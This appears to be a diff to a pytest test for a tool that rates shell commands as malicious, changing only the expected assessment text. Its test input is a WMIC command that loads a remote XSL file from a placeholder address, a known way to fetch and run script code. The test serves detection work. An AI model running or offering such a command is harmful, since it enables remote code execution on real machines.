@@ -27,7 +27,7 @@ def judged(output: bytes) -> list[dict[str, Any]]:
 def test_one_line_is_judged_for_a_person_to_read(capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["assess", 'wmic os get /format:"http://192.0.2.50/a.xsl"']) == 0
     said = capsys.readouterr().out
-    assert "Assessment: malicious, score 90 of 100." in said
+    assert "Assessment: malicious, score 90 of 100 (each line begins at 40)." in said
     assert "+50" in said
     assert "address 192.0.2.50" in said
 
